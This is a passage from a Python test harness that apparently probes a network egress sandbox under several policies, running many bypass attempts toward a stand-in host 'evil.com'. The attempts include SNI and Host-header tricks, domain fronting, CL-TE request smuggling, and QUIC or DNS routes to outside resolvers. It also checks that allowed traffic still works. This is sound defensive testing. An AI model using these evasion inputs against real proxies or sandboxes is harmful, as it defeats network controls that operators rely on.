    yield "sni-in-records", lambda: tls_in(tcp(EVIL, 443), *HELLOS["tiny-records"](b"EVIL.com"))
    yield "host-of-another", lambda: any_way("allowed.com", 80, lambda s: http_get(s, "evil.com"))


@row("public", 45, "what is not TCP, in mode public")
def not_tcp_in_public():
    yield "udp", lambda: ask_udp(WEB, b"x", 7007) == b"x" and "echoed"
    yield "quic", lambda: ask_udp(EVIL, b"\xc0" + os.urandom(1199), 443) and "echoed"
    yield "icmp", ping, os.geteuid() == 0
    yield "dns-elsewhere", lambda: leads_to_evil(ask_udp("8.8.8.8", query("evil.com")), b"evil.com")


# ---- TLS to allowed.com is opened


@row("inspect", 51, "another Host inside of TLS that is inspected")
def fronting():
    for host in ("evil.com", "EVIL.COM.", "allowed.com.evil.com", "allowed.com:444", "allowed.com@evil.com", "127.0.0.1", ""):
        yield host or "none", lambda h=host: fronted(h)
    yield "second-request", lambda: fronted_raw(b"GET / HTTP/1.1\r\nHost: allowed.com\r\n\r\n" + EVIL_REQUEST)
    yield "cl-te", lambda: fronted_raw(SMUGGLED["cl-te"][0])
    yield "sni", lambda: tls_to(*HELLOS["plain"](b"evil.com"))


def tls_session():
    import ssl

    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["http/1.1"])
    return context.wrap_socket(any_socket("allowed.com", 443), server_hostname="allowed.com")


def fronted(host):
    with tls_session() as s:
        return http_get(s, host, b"/smuggled")


def fronted_raw(text):
    with tls_session() as s:
        s.sendall(text)
        data = read_all(s, lambda d: b'"path": "/smuggled' in d)
    return '"path": "/smuggled' in data.decode("latin-1") and "the second request was answered"


# ---- nothing is allowed


@row("none", 45, "anything at all, without a network")
def nothing():
    yield from direct()
    yield "name", lambda: get_name("allowed.com")
    yield "dns", lambda: leads_to_evil(ask_udp("9.9.9.9", query("evil.com")), b"evil.com")


@row("none", 59, "services of the host, without a network")
def host_services_without_network():
    yield from services()


# ---- what must work, or the refusals mean nothing


@row("allow", 0, "what is allowed works")
def allowed_works():
    yield "http", lambda: get_name("allowed.com")
    yield "wildcard", lambda: get_name("deep.down.example.com")
    yield "host-forms", lambda: by_host(b"ALLOWED.com.") and by_host(b"allowed.com:80")
    yield "keep-alive", lambda: raw("allowed.com", 80, b"GET /a HTTP/1.1\r\nHost: allowed.com\r\n\r\n"
                                    b"GET /smuggled HTTP/1.1\r\nHost: allowed.com\r\nConnection: close\r\n\r\n")  # fmt: skip
    for form, make in HELLOS.items():
        yield "tls-" + form, lambda m=make: tls_to(*m(b"allowed.com"))


@row("allow", 0, "what is allowed works by proxy", outside=False)
def allowed_works_by_proxy():
    yield "connect", lambda: through_tunnel(connect_by_proxy("allowed.com:80"), b"allowed.com")
    yield "connect-tls", lambda: tls_in(connect_by_proxy("allowed.com:443"), *HELLOS["plain"](b"allowed.com"))
    yield "url", lambda: "allowed" in follow("http://allowed.com/") and "answered"
    yield "socks", lambda: through_tunnel(connect_by_socks("allowed.com", 80), b"allowed.com")
    yield "socks-tls", lambda: tls_in(connect_by_socks("allowed.com", 443), *HELLOS["plain"](b"allowed.com"))


@row("public", 0, "what is public works")
def public_works():
    yield "name", lambda: get_name("allowed.com")
    yield "address", lambda: get(WEB)
    yield "address6", lambda: get(WEB6)
    yield "unlisted", lambda: get_name("example.org")


@row("inspect", 0, "an inspected host works")
def inspected_works():
    yield "host", lambda: fronted("allowed.com")


# Rows whose variants must get through inside, too.
WORKS = {name for name, r in ROWS.items() if r["case"] == 0}


def attempt(call):
    try:
        found = call()
    except Cannot as e:
        return "cannot", str(e)
    except (TimeoutError, subprocess.TimeoutExpired):
        return "hung", ""
    except OSError as e:
        name = errno.errorcode.get(e.errno, "") if isinstance(e.errno, int) else ""
        return "refused", ("%s %s" % (name, e))[:200]
    except (ValueError, IndexError, struct.error) as e:
        return "refused", "%s: %s" % (type(e).__name__, str(e)[:100])
    if isinstance(found, Ask):
        return "ask", str(found)
    return ("through", str(found)[:200]) if found else ("refused", "no answer of a server")


def main():
    policy, wanted = sys.argv[1], sys.argv[2:]
    for name, r in ROWS.items():
        if r["policy"] == policy and (not wanted or name in wanted):
            results = {variant: attempt(call) for variant, call, *outside in r["call"]() if all(outside) or INSIDE}
            print(json.dumps({"row": name, "results": results}), flush=True)


if __name__ == "__main__":
    main()
